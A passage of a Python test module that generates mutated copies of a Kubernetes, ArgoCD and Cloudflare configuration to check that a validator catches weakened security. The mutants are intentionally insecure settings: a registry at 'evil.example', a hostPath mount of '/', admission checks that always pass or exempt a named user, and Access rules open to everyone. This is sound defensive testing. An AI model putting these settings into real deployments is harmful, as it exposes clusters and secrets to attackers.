            f"{who} takes a major version",
            lambda w, t=target: t(w).update(image=t(w)["image"].split(":")[0] + ":27-dind"),
        )
        yield Mutant(
            "IMG001",
            f"{who} takes a branch",
            lambda w, t=target: t(w).update(image=t(w)["image"].split(":")[0] + ":main-v1.2.3"),
        )
        yield Mutant(
            "IMG003",
            f"{who} from another registry",
            lambda w, t=target: t(w).update(image="evil.example/" + t(w)["image"]),
        )
        yield Mutant(
            "IMG003",
            f"{who} of another version",
            lambda w, t=target: t(w).update(image=t(w)["image"].split(":")[0] + ":9999.9.9"),
        )
    for workload in WORKLOADS:
        pod = partial(lambda n, w: w.pod(n), workload)
        yield Mutant("POD007", f"{workload} is given an API token", setting(pod, automountServiceAccountToken=True))
        yield Mutant(
            "POD007", f"{workload} does not refuse an API token", dropping(pod, "automountServiceAccountToken")
        )
        yield Mutant("POD007", f"{workload} as the default account", dropping(pod, "serviceAccountName"))
        yield Mutant(
            "POD007",
            f"{workload} projects an API token",
            lambda w, p=pod: (
                p(w)
                .setdefault("volumes", [])
                .append({"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}})
            ),
        )
        yield Mutant(
            "POD007",
            f"the account of {workload} hands out tokens",
            lambda w, n=workload: w.k8s("ServiceAccount", n).pop("automountServiceAccountToken"),
        )
        for kind, body in (
            ("hostPath", {"path": "/"}),
            ("csi", {"driver": "x"}),
            ("nfs", {"server": "x"}),
            ("ephemeral", {}),
        ):
            yield Mutant(
                "POD006",
                f"{workload} mounts {kind}",
                lambda w, p=pod, k=kind, b=body: p(w).setdefault("volumes", []).append({"name": "x", k: b}),
            )
        yield Mutant(
            "POD006",
            f"{workload} sets sysctls",
            lambda w, p=pod: p(w)["securityContext"].update(sysctls=[{"name": "net.ipv4.ip_forward", "value": "1"}]),
        )
        yield Mutant(
            "POD005",
            f"{workload} without a seccomp profile",
            lambda w, p=pod: p(w)["securityContext"].pop("seccompProfile"),
        )
        yield Mutant(
            "POD009",
            f"{workload} with scratch space without end",
            lambda w, p=pod: p(w).setdefault("volumes", []).append({"name": "x", "emptyDir": {}}),
        )
        yield Mutant(
            "POD011",
            f"a debug container in {workload}",
            lambda w, p=pod: p(w).update(ephemeralContainers=[{"name": "debug", "image": "docker:27.5.1-cli"}]),
        )
        yield Mutant(
            "POD011",
            f"a sidecar in {workload}",
            lambda w, p=pod: p(w)["containers"].append({"name": "extra", "image": "docker:27.5.1-cli"}),
        )
        yield Mutant(
            "POD011",
            f"an init container in {workload}",
            lambda w, p=pod: (
                p(w).setdefault("initContainers", []).append({"name": "extra", "image": "docker:27.5.1-cli"})
            ),
        )
    yield Mutant(
        "POD011",
        "cloudflared as a sidecar of the agent",
        lambda w: w.pod(AGENT)["containers"].append(w.container(TUNNEL)),
    )
    label = "pod-security.kubernetes.io/enforce"
    labels = partial(lambda w: w.k8s("Namespace", "openclaw")["metadata"]["labels"])
    yield Mutant("POD010", "Pod Security enforces nothing", dropping(labels, label))
    yield Mutant("POD010", "Pod Security enforces 'baseline'", setting(labels, **{label: "baseline"}))
    for mode in ("audit", "warn"):
        yield Mutant("POD010", f"Pod Security does not {mode}", dropping(labels, f"pod-security.kubernetes.io/{mode}"))
    name = "openclaw-hold-pods"
    yield from _admission("POD010", name)
    policy = body_of("ValidatingAdmissionPolicy", name)["spec"]
    for index, validation in enumerate(policy["validations"]):
        yield Mutant(
            "POD010",
            f"{name}: validation {index + 1} always true",
            lambda w, i=index: w.k8s("ValidatingAdmissionPolicy", name)["spec"]["validations"][i].update(
                expression="true"
            ),
        )
        yield Mutant(
            "POD010",
            f"{name}: validation {index + 1} or true",
            lambda w, i=index, v=validation: w.k8s("ValidatingAdmissionPolicy", name)["spec"]["validations"][i].update(
                expression=f"({v['expression']}) || true"
            ),
        )


def _reword(world: World, kind: str, old: str, new: str) -> None:
    """Change a word in every expression of the policy that keeps *kind*."""
    validations = world.k8s("ValidatingAdmissionPolicy", f"openclaw-keep-{kind}")["spec"]["validations"]
    assert any(old in one["expression"] for one in validations)
    for one in validations:
        one["expression"] = one["expression"].replace(old, new)


def _late_pod(world: World) -> None:
    """Storage that binds when its first pod comes, and a claim that is applied before."""
    storage = next(name for _, name in objects("StorageClass"))
    claim = next(name for _, name in objects("PersistentVolumeClaim"))
    world.k8s("StorageClass", storage).update(volumeBindingMode="WaitForFirstConsumer")
    world.k8s("PersistentVolumeClaim", claim)["metadata"]["annotations"]["argocd.argoproj.io/sync-wave"] = "-10"


def _kept(name: str) -> Iterator[Mutant]:
    yield from _admission("DATA005", name)
    guard = partial(lambda w: w.k8s("ValidatingAdmissionPolicy", name)["spec"])

    def changed(change: Callable[[str], str]) -> Callable[[World], object]:
        """Every expression of the policy, changed."""

        def apply(world: World) -> None:
            for one in guard(world)["validations"]:
                one["expression"] = change(one["expression"])

        return apply

    yield Mutant("DATA005", f"{name}: no validation", setting(guard, validations=[]))
    yield Mutant("DATA005", f"{name}: true", changed(lambda _: "true"))
    yield Mutant(
        "DATA005",
        f"{name}: by request.name",
        changed(
            lambda text: (
                text.replace("oldObject.metadata.name", "request.name")
                .replace("oldObject.spec.claimRef.namespace", "request.namespace")
                .replace("oldObject.status.kubernetesStatus.namespace", "request.namespace")
            )
        ),
    )
    yield Mutant(
        "DATA005",
        f"{name}: for another name",
        changed(lambda text: text.replace("openclaw", "other").replace("argoproj.io", "example.com")),
    )
    yield Mutant(
        "DATA005",
        f"{name}: unless somebody asks",
        changed(lambda text: f"{text} || request.userInfo.username == 'boxp'"),
    )


def _admission(owner: str, name: str) -> Iterator[Mutant]:
    policy = partial(lambda w: w.k8s("ValidatingAdmissionPolicy", name)["spec"])
    binding = partial(lambda w: w.k8s("ValidatingAdmissionPolicyBinding", name)["spec"])
    yield Mutant(owner, f"{name} dropped", lambda w: w.drop("ValidatingAdmissionPolicy", name))
    yield Mutant(owner, f"{name} not bound", lambda w: w.drop("ValidatingAdmissionPolicyBinding", name))
    yield Mutant(owner, f"{name} fails open", setting(policy, failurePolicy="Ignore"))
    yield Mutant(owner, f"{name} only audits", setting(binding, validationActions=["Audit"]))
    yield Mutant(owner, f"{name} only warns", setting(binding, validationActions=["Warn"]))
    yield Mutant(owner, f"{name} bound to another policy", setting(binding, policyName="other"))
    yield Mutant(
        owner, f"{name} with a condition", setting(policy, matchConditions=[{"name": "x", "expression": "false"}])
    )
    yield Mutant(
        owner,
        f"{name} for labelled objects alone",
        lambda w: policy(w)["matchConstraints"].update(objectSelector={"matchLabels": {"a": "b"}}),
    )
    yield Mutant(
        owner,
        f"{name} bound where a label says so",
        setting(binding, matchResources={"objectSelector": {"matchLabels": {"a": "b"}}}),
    )
    yield Mutant(
        owner,
        f"{name} bound elsewhere",
        setting(
            binding, matchResources={"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "other"}}}
        ),
    )
    yield Mutant(
        owner,
        f"{name} matches nothing",
        lambda w: [r.update(operations=["CONNECT"]) for r in policy(w)["matchConstraints"]["resourceRules"]],
    )
    yield Mutant(
        owner,
        f"{name} matches other resources",
        lambda w: [r.update(resources=["configmaps"]) for r in policy(w)["matchConstraints"]["resourceRules"]],
    )
    yield Mutant(owner, f"{name} validates nothing", setting(policy, validations=[]))


def images() -> Iterator[Mutant]:
    bad = {
        PROXY: ("v1.82.7", "v1.82.8", "v1.63.2", "v1.102.1", "v1.103.0", "main-v1.103.2"),
        TUNNEL: ("2024.12.2", "2025.6.1"),
        AGENT: ("2026.2.1", "2026.9.5"),
    }
    for workload, tags in bad.items():
        for tag in tags:
            yield Mutant(
                "IMG002",
                f"{workload} at {tag}",
                lambda w, n=workload, t=tag: w.container(n).update(
                    image=w.container(n)["image"].split(":")[0] + ":" + t
                ),
            )
        yield Mutant(
            "IMG002",
            f"{workload} by a digest that hides its version",
            lambda w, n=workload: w.container(n).update(
                image=w.container(n)["image"].split(":")[0] + "@sha256:" + "0" * 64
            ),
        )
    for key, reference in (("sandbox", "openclaw-sandbox:bookworm-slim"), ("sandbox", "ghcr.io/boxp/openclaw-sandbox")):
        yield Mutant(
            "IMG001",
            f"{key} image {reference}",
            lambda w, r=reference: next(
                e for e in w.container(AGENT, "pull-sandbox")["env"] if e["name"] == "SANDBOX_SOURCE"
            ).update(value=r),
        )


# --- DATA -----------------------------------------------------------------------------------------------------------

OPTIONS = "argocd.argoproj.io/sync-options"


def data() -> Iterator[Mutant]:
    for kind, name in objects("PersistentVolumeClaim", "Namespace", "StorageClass"):
        meta = partial(lambda k, n, w: w.k8s(k, n)["metadata"], kind, name)
        for what, value in (
            ("may be pruned", "Delete=false"),
            ("goes with the app", "Prune=false"),
            ("goes after a click", "Prune=false,Delete=confirm"),
            ("may be replaced", "Prune=false,Delete=false,Replace=true"),
            ("misspelt", "prune=false,delete=false"),
        ):
            yield Mutant(
                "DATA001", f"{kind} {name} {what}", lambda w, m=meta, v=value: m(w)["annotations"].update({OPTIONS: v})
            )
        yield Mutant("DATA001", f"{kind} {name} without options", lambda w, m=meta: m(w)["annotations"].pop(OPTIONS))
        yield Mutant(
            "DATA001",
            f"{kind} {name} as a hook",
            lambda w, m=meta: m(w)["annotations"].update({"argocd.argoproj.io/hook": "PreSync"}),
        )
    claim = next(name for _, name in objects("PersistentVolumeClaim"))
    pvc = partial(lambda w: w.k8s("PersistentVolumeClaim", claim))
    yield Mutant(
        "DATA001",
        "the claim goes with its owner",
        lambda w: pvc(w)["metadata"].update(ownerReferences=[{"kind": "Deployment", "name": "x"}]),
    )
    yield Mutant("DATA001", "the claim is dropped", lambda w: w.drop("PersistentVolumeClaim", claim))
    application = partial(lambda w: w.k8s("Application", "openclaw"))
    policy = partial(lambda w: application(w)["spec"]["syncPolicy"])
    for finalizer in ("resources-finalizer.argocd.argoproj.io", "resources-finalizer.argocd.argoproj.io/background"):
        yield Mutant(
            "DATA002",
            f"the Application with {finalizer}",
            lambda w, f=finalizer: application(w)["metadata"].update(finalizers=[f]),
        )
    yield Mutant("DATA002", "the Application prunes", lambda w: policy(w)["automated"].update(prune=True))
    yield Mutant(
        "DATA002", "an empty folder deletes everything", lambda w: policy(w)["automated"].update(allowEmpty=True)
    )
    for option in ("Replace=true", "Force=true"):
        yield Mutant(
            "DATA002", f"the Application syncs with {option}", lambda w, o=option: policy(w)["syncOptions"].append(o)
        )
    yield Mutant(
        "DATA002",
        "the Application manages the namespace",
        lambda w: policy(w).update(managedNamespaceMetadata={"labels": {"a": "b"}}),
    )
    yield Mutant("DATA002", "no Application", lambda w: w.drop("Application", "openclaw"))
    yield Mutant(
        "REF010",
        "an ApplicationSet",
        lambda w: w.add(
            {
                "apiVersion": "argoproj.io/v1alpha1",
                "kind": "ApplicationSet",
                "metadata": {"name": "x", "namespace": "argocd"},
                "spec": {},
            }
        ),
    )
    storage = next(name for _, name in objects("StorageClass"))
    yield Mutant(
        "DATA003",
        "volumes are deleted with their claims",
        lambda w: w.k8s("StorageClass", storage).update(reclaimPolicy="Delete"),
    )
    yield Mutant(
        "DATA003",
        "the class does not say what becomes of volumes",
        lambda w: w.k8s("StorageClass", storage).pop("reclaimPolicy"),
    )
    yield Mutant(
        "DATA003", "the claim is of the cluster's class", lambda w: pvc(w)["spec"].update(storageClassName="longhorn")
    )
    yield Mutant("DATA003", "the claim is of the default class", lambda w: pvc(w)["spec"].pop("storageClassName"))
    for label in ("recurring-job.longhorn.io/source", "recurring-job-group.longhorn.io/default"):
        yield Mutant("DATA004", f"the claim without {label}", lambda w, x=label: pvc(w)["metadata"]["labels"].pop(x))
        yield Mutant(
            "DATA004",
            f"the claim with {label} switched off",
            lambda w, x=label: pvc(w)["metadata"]["labels"].update({x: "disabled"}),
        )
    for kind in (
        "namespaces",
        "persistentvolumeclaims",
        "persistentvolumes",
        "applications",
        "customresourcedefinitions",
        "volumes",
    ):
        yield from _kept(f"openclaw-keep-{kind}")
    for kind, count in (("persistentvolumes", 4), ("applications", 2)):
        guard = partial(lambda w, k: w.k8s("ValidatingAdmissionPolicy", f"openclaw-keep-{k}")["spec"], k=kind)
        for index in range(count):
            yield Mutant(
                "DATA005",
                f"openclaw-keep-{kind}: validation {index + 1} dropped",
                lambda w, g=guard, i=index: g(w)["validations"].pop(i),
            )
        yield Mutant(
            "DATA005",
            f"openclaw-keep-{kind} asks about deletions alone",
            lambda w, g=guard: g(w)["matchConstraints"]["resourceRules"][0].update(operations=["DELETE"]),
        )
    for finalizer in ("", "/background", "/foreground"):
        yield Mutant(
            "DATA005",
            f"the finalizer with {finalizer or 'nothing'} is not refused",
            lambda w, f=finalizer: _reword(w, "applications", f'"resources-finalizer.argocd.argoproj.io{f}"', '"x"'),
        )
    for definition in ("applications.argoproj.io", "volumes.longhorn.io"):
        yield Mutant(
            "DATA005",
            f"the definition {definition} may go",
            lambda w, d=definition: _reword(w, "customresourcedefinitions", f'"{d}"', '"x"'),
        )
    agent = partial(lambda w: w.k8s("Deployment", AGENT)["spec"])
    yield Mutant("DATA006", "the agent rolls over", setting(agent, strategy={"type": "RollingUpdate"}))
    yield Mutant("DATA006", "the agent's strategy is left out", dropping(agent, "strategy"))
    yield Mutant("DATA006", "two agents on one volume", setting(agent, replicas=2))
    yield Mutant(
        "DATA006", "the claim is for many writers", lambda w: pvc(w)["spec"].update(accessModes=["ReadWriteMany"])
    )
    yield Mutant(
        "DATA006",
        "the proxy mounts the agent's claim",
        lambda w: w.pod(PROXY)["volumes"].append({"name": "d", "persistentVolumeClaim": {"claimName": claim}}),
    )
    yield Mutant(
        "DATA006",
        "nobody mounts the claim",
        lambda w: next(v for v in w.pod(AGENT)["volumes"] if v["name"] == "data").update(
            persistentVolumeClaim={"claimName": "other"}
        ),
    )
    project = partial(lambda w: w.k8s("AppProject", "openclaw")["spec"])
    yield Mutant(
        "DATA007",
        "the project allows every namespace",
        lambda w: project(w)["destinations"].append({"namespace": "*", "server": "https://kubernetes.default.svc"}),
    )
    yield Mutant(
        "DATA007", "the project allows every cluster", lambda w: project(w)["destinations"][0].update(server="*")
    )
    yield Mutant("DATA007", "the project allows every repository", setting(project, sourceRepos=["*"]))
    yield Mutant(
        "DATA007",
        "the project allows every cluster kind",
        setting(project, clusterResourceWhitelist=[{"group": "*", "kind": "*"}]),
    )
    yield Mutant("DATA007", "the project lists no kinds", dropping(project, "namespaceResourceWhitelist"))
    for kind in ("Role", "RoleBinding", "Secret", "Pod"):
        yield Mutant(
            "DATA007",
            f"the project allows {kind}",
            lambda w, k=kind: project(w)["namespaceResourceWhitelist"].append({"group": "", "kind": k}),
        )
    for name in ("kube-system", "*", "open*"):
        allowed = {"group": "", "kind": "Namespace", "name": name}
        yield Mutant(
            "DATA007", f"the project allows namespace {name}", setting(project, clusterResourceWhitelist=[allowed])
        )
    for kind in ("ClusterRole", "ClusterRoleBinding", "CustomResourceDefinition", "Namespace", "StorageClass"):
        yield Mutant(
            "DATA007",
            f"the project allows {kind}",
            lambda w, k=kind: project(w).setdefault("clusterResourceWhitelist", []).append({"group": "", "kind": k}),
        )
    yield Mutant(
        "DATA007",
        "the project gives rights in ArgoCD",
        setting(project, roles=[{"name": "x", "policies": ["p, proj:openclaw:x, applications, delete, *, allow"]}]),
    )
    yield Mutant("DATA007", "the default project", lambda w: application(w)["spec"].update(project="default"))


# --- REF, SITE ------------------------------------------------------------------------------------------------------


def references() -> Iterator[Mutant]:
    for workload in WORKLOADS:
        yield Mutant("REF002", f"{workload} is missing", lambda w, n=workload: w.drop("Deployment", n))
        yield Mutant(
            "REF002",
            f"{workload} opens one more port",
            lambda w, n=workload: w.container(n)["ports"].append({"containerPort": 22}),
        )
        yield Mutant(
            "REF002",
            f"{workload} is not declared",
            lambda w, n=workload: w.ledger.update(workloads=[x for x in w.ledger["workloads"] if x["id"] != n]),
        )
        for volume in [
            v["name"] for v in body_of("Deployment", workload)["spec"]["template"]["spec"].get("volumes", [])
        ]:
            yield Mutant(
                "REF005",
                f"{workload} without volume {volume}",
                lambda w, n=workload, v=volume: w.pod(n).update(
                    volumes=[x for x in w.pod(n)["volumes"] if x["name"] != v]
                ),
            )
        yield Mutant(
            "REF005",
            f"{workload} as an account that does not exist",
            setting(lambda w, n=workload: w.pod(n), serviceAccountName="nobody"),
        )
    for _, name in objects("ConfigMap"):
        yield Mutant("REF005", f"ConfigMap {name} dropped", lambda w, n=name: w.drop("ConfigMap", n))
    for workload, container, body in containers():
        for probe in ("livenessProbe", "readinessProbe", "startupProbe"):
            if "httpGet" in body.get(probe, {}):
                yield Mutant(
                    "REF005",
                    f"{probe} of {workload}/{container} on a port that is not there",
                    lambda w, n=workload, c=container, p=probe: w.container(n, c)[p]["httpGet"].update(port="nothing"),
                )
                yield Mutant(
                    "CFG007",
                    f"{probe} of {workload}/{container} on a path that always answers",
                    lambda w, n=workload, c=container, p=probe: w.container(n, c)[p]["httpGet"].update(path="/health"),
                )
                yield Mutant(
                    "CFG007",
                    f"{probe} of {workload}/{container} dropped",
                    lambda w, n=workload, c=container, p=probe: w.container(n, c).pop(p),
                )
                yield Mutant(
                    "CFG007",
                    f"{probe} of {workload}/{container} asks another host",
                    lambda w, n=workload, c=container, p=probe: w.container(n, c)[p]["httpGet"].update(
                        host="example.org"
                    ),
                )
        for entry in body.get("env", []):
            if "valueFrom" in entry:
                yield Mutant(
                    "REF005",
                    f"{entry['name']} of {workload}/{container} optional",
                    partial(_optional, workload, container, entry["name"]),
                )
    for resource in body_of_kustomization()["resources"]:
        yield Mutant(
            "REF007",
            f"{resource} is written, but not applied",
            lambda w, r=resource: w.kustomization["resources"].remove(r),
        )
    for above in ("application.yaml", "appproject.yaml", "admission.yaml", "namespace.yaml", "storageclass.yaml"):
        yield Mutant(
            "REF007", f"the app applies its own {above}", lambda w, a=above: w.kustomization["resources"].append(a)
        )
    for field, value in (
        ("patches", [{"path": "x"}]),
        ("namePrefix", "x-"),
        ("images", [{"name": "x"}]),
        ("commonLabels", {"a": "b"}),
        ("configMapGenerator", [{"name": "x"}]),
        ("helmCharts", [{"name": "x"}]),
    ):
        yield Mutant(
            "REF007", f"the kustomization has {field}", lambda w, f=field, v=value: w.kustomization.update({f: v})
        )
    yield Mutant(
        "REF007",
        "the kustomization lists what is not there",
        lambda w: w.kustomization["resources"].append("nothing.yaml"),
    )
    yield Mutant("REF007", "the kustomization moves everything", lambda w: w.kustomization.update(namespace="default"))
    stranger: Json = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "fourth", "namespace": "openclaw"},
        "spec": {
            "selector": {"matchLabels": {"app": "fourth"}},
            "template": {
                "metadata": {"labels": {"app": "fourth"}},
                "spec": {"containers": [{"name": "x", "image": "docker:27.5.1-cli"}]},
            },
        },
    }
    yield Mutant("REF002", "a fourth workload", lambda w: w.add(copy.deepcopy(stranger)))
    yield Mutant(
        "REF002",
        "a workload in another namespace",
        lambda w: w.add({**copy.deepcopy(stranger), "metadata": {"name": "fourth", "namespace": "default"}}),
    )
    for kind in ("CronJob", "DaemonSet", "Pod"):
        yield Mutant("REF002", f"a {kind} that nobody declared", partial(_other_kind, kind, stranger))
    yield Mutant(
        "REF010",
        "a MutatingWebhookConfiguration",
        lambda w: w.add(
            {
                "apiVersion": "admissionregistration.k8s.io/v1",
                "kind": "MutatingWebhookConfiguration",
                "metadata": {"name": "x"},
            }
        ),
    )
    yield Mutant(
        "REF010",
        "a CustomResourceDefinition",
        lambda w: w.add(
            {"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": {"name": "x"}}
        ),
    )
    yield Mutant(
        "REF010",
        "an object in kube-system",
        lambda w: w.add(
            {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x", "namespace": "kube-system"}}
        ),
    )
    yield Mutant(
        "REF010",
        "Terraform in another language",
        lambda w: w.files.update({"arch/terraform/aws/openclaw/extra.tf": b"x"}),
    )
    yield Mutant("REF010", "a file that is no manifest", lambda w: w.files.update({APP + "values.yaml": b"a: 1\n"}))
    yield Mutant("REF010", "a script beside the manifests", lambda w: w.files.update({APP + "run.sh": b"id\n"}))
    source = partial(lambda w: w.k8s("Application", "openclaw")["spec"]["source"])
    yield Mutant("REF011", "the Application delivers another folder", setting(source, path="argoproj/other"))
    yield Mutant("REF011", "the Application patches what it delivers", setting(source, kustomize={"images": ["x"]}))
    yield Mutant(
        "REF011",
        "the Application deploys elsewhere",
        lambda w: w.k8s("Application", "openclaw")["spec"]["destination"].update(namespace="default"),
    )
    yield Mutant("REF011", "the Application follows no revision", dropping(source, "targetRevision"))
    retry = partial(lambda w: w.k8s("Application", "openclaw")["spec"]["syncPolicy"]["retry"])
    yield Mutant("REF014", "a failed revision is tried for ever", dropping(retry, "refresh"))
    yield Mutant("REF014", "a failed revision is tried again on purpose", setting(retry, refresh=False))
    yield Mutant("REF014", "the claim waits for a pod of a later wave", _late_pod)
    provider = partial(lambda c: c["models"]["providers"]["litellm"])
    for what, url in (
        ("another port", "http://litellm.openclaw.svc.cluster.local:4001/v1"),
        ("another namespace", "http://litellm.other.svc.cluster.local:4000/v1"),
        ("Anthropic directly", "https://api.anthropic.com/v1"),
        ("itself", "http://openclaw.openclaw.svc.cluster.local:18789/v1"),
    ):
        yield Mutant(
            "REF008", f"the agent asks {what}", lambda w, u=url: w.openclaw(lambda c: provider(c).update(baseUrl=u))
        )
    yield Mutant(
        "REF008",
        "the agent names a model that the proxy does not serve",
        lambda w: w.openclaw(lambda c: provider(c)["models"][0].update(id="other")),
    )
    yield Mutant(
        "REF008",
        "the agent's primary model does not exist",
        lambda w: w.openclaw(lambda c: c["agents"]["defaults"]["model"].update(primary="litellm/other")),
    )
    yield Mutant(
        "REF008",
        "a fallback does not exist",
        lambda w: w.openclaw(lambda c: c["agents"]["defaults"]["model"]["fallbacks"].append("anthropic/claude")),
    )
    yield Mutant(
        "REF008", "the built-in providers stay", lambda w: w.openclaw(lambda c: c["models"].update(mode="merge"))
    )
    yield Mutant(
        "REF008",
        "a provider past the proxy",
        lambda w: w.openclaw(
            lambda c: c["models"]["providers"].update(direct={"baseUrl": "https://api.openai.com/v1", "models": []})
        ),
    )
    yield Mutant(
        "REF008",
        "the proxy renames a model",
        lambda w: w.litellm(lambda c: c["model_list"][0].update(model_name="other")),
    )


def body_of_kustomization() -> Json:
    return World().kustomization


def _optional(workload: str, container: str, name: str, world: World) -> None:
    entry = next(e for e in world.container(workload, container)["env"] if e["name"] == name)
    entry["valueFrom"]["secretKeyRef"]["optional"] = True


def _other_kind(kind: str, workload: Json, world: World) -> None:
    template = copy.deepcopy(workload["spec"]["template"])
    meta = {"name": "fourth", "namespace": "openclaw"}
    spec: Json = {"selector": workload["spec"]["selector"], "template": template}
    if kind == "Pod":
        spec = template["spec"]
    if kind == "CronJob":
        spec = {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": template}}}
    world.add(
        {
            "apiVersion": {"Pod": "v1", "CronJob": "batch/v1"}.get(kind, "apps/v1"),
            "kind": kind,
            "metadata": meta,
            "spec": spec,
        }
    )


def sites() -> Iterator[Mutant]:
    application, policy = "cloudflare_zero_trust_access_application", "cloudflare_zero_trust_access_policy"
    record, routes, tunnel = (
        "cloudflare_record",
        "cloudflare_zero_trust_tunnel_cloudflared_config",
        "cloudflare_zero_trust_tunnel_cloudflared",
    )
    rule = partial(lambda w: w.tf(routes)["config"]["ingress_rule"])
    for what, kind in (("application", application), ("policy", policy)):
        yield Mutant("SITE001", f"the Access {what} dropped", lambda w, k=kind: w.cloudflare["resource"].pop(k))
    yield Mutant(
        "SITE001", "the Access application for another host", lambda w: w.tf(application).update(domain="other.b0xp.io")
    )
    yield Mutant(
        "SITE001",
        "one more route",
        lambda w: rule(w).insert(
            0, {"hostname": "admin.b0xp.io", "service": "http://litellm.openclaw.svc.cluster.local:4000"}
        ),
    )
    yield Mutant(
        "SITE001",
        "one more DNS record",
        lambda w: w.cloudflare["resource"][record].update(
            x={"name": "admin", "type": "CNAME", "content": "x", "proxied": True}
        ),
    )
    yield Mutant(
        "SITE001",
        "the policy of another application",
        lambda w: w.tf(policy).update(application_id="${cloudflare_zero_trust_access_application.other.id}"),
    )
    for what, include in (
        ("login_method alone", [{"login_method": ["x"]}]),
        ("everybody", [{"everyone": True}]),
        ("any service token", [{"any_valid_service_token": True}]),
        ("a mail domain", [{"email_domain": ["gmail.com"]}]),
        ("a range of addresses", [{"ip": ["0.0.0.0/0"]}]),
        ("a country", [{"geo": ["JP"]}]),
        ("an organization", [{"github": [{"name": "boxp"}]}]),
        ("a group elsewhere", [{"group": ["x"]}]),
        ("nobody", []),
        ("an address with a star", [{"email": ["*@b0xp.io"]}]),
    ):
        yield Mutant("SITE002", f"Access admits {what}", lambda w, i=include: w.tf(policy).update(include=i))
        if include and "email" not in include[0]:
            yield Mutant(
                "SITE002",
                f"Access admits people, and {what} as well",
                lambda w, i=include: w.tf(policy)["include"].extend(i),
            )
    yield Mutant("SITE002", "Access does not require the login method", lambda w: w.tf(policy).pop("require"))
    yield Mutant(
        "SITE002",
        "the people have a default",
        lambda w: w.cloudflare["variable"]["access_emails"].update(default=["x@example.org"]),
    )
    for decision in ("bypass", "non_identity", "", "service_auth"):
        yield Mutant(
            "SITE003", f"Access decides {decision or 'nothing'}", lambda w, d=decision: w.tf(policy).update(decision=d)
        )
    yield Mutant(
        "SITE003",
        "one more policy that bypasses",
        lambda w: w.cloudflare["resource"][policy].update(x={**w.tf(policy), "decision": "bypass", "precedence": 2}),
    )
    for domain in ("openclaw.b0xp.io/api", "*.b0xp.io"):
        yield Mutant(
            "SITE003",
            f"an application for {domain}",
            lambda w, d=domain: w.cloudflare["resource"][application].update(x={**w.tf(application), "domain": d}),
        )
    yield Mutant("SITE003", "an application for SSH", lambda w: w.tf(application).update(type="ssh"))
    yield Mutant(
        "SITE003", "preflights bypass Access", lambda w: w.tf(application).update(options_preflight_bypass=True)
    )
    yield Mutant("SITE004", "DNS is not proxied", lambda w: w.tf(record).update(proxied=False))
    yield Mutant("SITE004", "DNS does not say that it is proxied", lambda w: w.tf(record).pop("proxied"))
    yield Mutant("SITE004", "DNS names the house", lambda w: w.tf(record).update(type="A", content="203.0.113.7"))
    yield Mutant(
        "SITE004",
        "DNS points at another tunnel",
        lambda w: w.tf(record).update(content="${cloudflare_zero_trust_tunnel_cloudflared.other.cname}"),
    )
    for session in ("720h", "25h", "", "forever", "90000s"):
        yield Mutant(
            "SITE005",
            f"a login lasts {session or 'as long as the default'}",
            lambda w, s=session: w.tf(application).update(session_duration=s),
        )
    for key in ("no_tls_verify", "bastion_mode", "http_host_header", "proxy_type"):
        yield Mutant("SITE006", f"the route sets {key}", lambda w, k=key: rule(w)[0].update(origin_request={k: "x"}))
    yield Mutant(
        "SITE006",
        "Access at the origin, not required",
        lambda w: rule(w)[0].update(origin_request={"access": {"required": False, "team_name": "x"}}),
    )
    yield Mutant(
        "SITE006",
        "the tunnel routes a private network",
        lambda w: w.tf(routes)["config"].update(warp_routing={"enabled": True}),
    )
    yield Mutant("REF003", "no catch-all", lambda w: rule(w).pop())
    yield Mutant(
        "REF003",
        "the catch-all leads to the agent",
        lambda w: rule(w)[-1].update(service="http://openclaw.openclaw.svc.cluster.local:18789"),
    )
    yield Mutant("REF003", "the catch-all says hello", lambda w: rule(w)[-1].update(service="hello_world"))
    for what, service in (
        ("another port", "http://openclaw.openclaw.svc.cluster.local:18790"),
        ("another Service", "http://litellm.openclaw.svc.cluster.local:4000"),
        ("another namespace", "http://argocd-server.argocd.svc.cluster.local:80"),
        ("SSH", "ssh://openclaw.openclaw.svc.cluster.local:22"),
        ("an address", "http://192.168.10.99:6443"),
        ("a typing error", "http://opencalw.openclaw.svc.cluster.local:18789"),
    ):
        yield Mutant("REF003", f"the tunnel leads to {what}", lambda w, s=service: rule(w)[0].update(service=s))
    yield Mutant("REF003", "the tunnel has no route to the site", lambda w: rule(w).pop(0))
    yield Mutant("REF004", "DNS has another name", lambda w: w.tf(record).update(name="claw"))
    yield Mutant("REF004", "Access has another name", lambda w: w.tf(application).update(domain="claw.b0xp.io"))
    for what, origins in (
        ("another", ["https://other.b0xp.io"]),
        ("one more", ["https://openclaw.b0xp.io", "https://evil.example"]),
        ("no", []),
        ("every", ["*"]),
        ("an unencrypted", ["http://openclaw.b0xp.io"]),
    ):
        yield Mutant(
            "REF004",
            f"{what} origin",
            lambda w, o=origins: w.openclaw(lambda c: c["gateway"]["controlUi"].update(allowedOrigins=o)),
        )
    yield Mutant(
        "REF009",
        "the token of another tunnel",
        lambda w: w.tf("aws_ssm_parameter").update(
            value="${cloudflare_zero_trust_tunnel_cloudflared.other.tunnel_token}"
        ),
    )
    yield Mutant(
        "REF009",
        "another value as token",
        lambda w: w.tf("aws_ssm_parameter").update(value="${cloudflare_zero_trust_tunnel_cloudflared.openclaw.id}"),
    )
    yield Mutant(
        "REF009", "the tunnel takes its routes from the pod", lambda w: w.tf(tunnel).update(config_src="local")
    )
    yield Mutant(
        "REF009",
        "the routes of another tunnel",
        lambda w: w.tf(routes).update(tunnel_id="${cloudflare_zero_trust_tunnel_cloudflared.other.id}"),
    )
    yield Mutant(
        "REF009",
        "DNS of another tunnel than the token's",
        lambda w: w.tf(record).update(content="${cloudflare_zero_trust_tunnel_cloudflared.other.cname}"),
    )


# --- CFG, ACK -------------------------------------------------------------------------------------------------------


def configuration() -> Iterator[Mutant]:
    values: Any
    for workload, name in (
        (PROXY, "ANTHROPIC_API_KEY"),
        (PROXY, "LITELLM_MASTER_KEY"),
        (PROXY, "LITELLM_PROXY_KEY"),
        (AGENT, "LITELLM_PROXY_KEY"),
        (AGENT, "OPENCLAW_GATEWAY_TOKEN"),
        (AGENT, "DISCORD_BOT_TOKEN"),
    ):
        yield Mutant(
            "CFG001",
            f"{name} is not set in {workload}",
